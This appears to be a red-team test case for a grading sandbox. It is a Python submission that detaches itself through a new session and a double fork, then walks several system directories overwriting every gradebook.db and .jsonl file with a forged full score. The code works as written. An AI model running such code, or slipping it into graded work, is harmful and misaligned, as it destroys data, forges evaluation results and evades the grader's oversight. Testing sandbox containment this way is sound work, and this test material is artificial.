# ruff: noqa
"""
goal = "a process that outlives the grading overwrites every gradebook it can find"
invariant = "nothing that a submission starts reaches a file of the course"
held_by = ["bubblewrap"]
"""

# %% attack
import os
import subprocess
import sys

CODE = """
import os, time
for _ in range(5):
    for start in ("../../../..", "/home", "/tmp", "/mnt", "/srv"):
        for folder, _, names in os.walk(start):
            for name in names:
                if name == "gradebook.db" or name.endswith(".jsonl"):
                    try:
                        open(os.path.join(folder, name), "wb").write(b"50 of 50 for detached_writer")
                    except OSError:
                        pass
    for path in ("../../../gradebook.db", "../../../../gradebook.db", "/gradebook.db"):
        try:
            open(path, "wb").write(b"50 of 50 for detached_writer")
        except OSError:
            pass
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", CODE], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", CODE])
    os._exit(0)
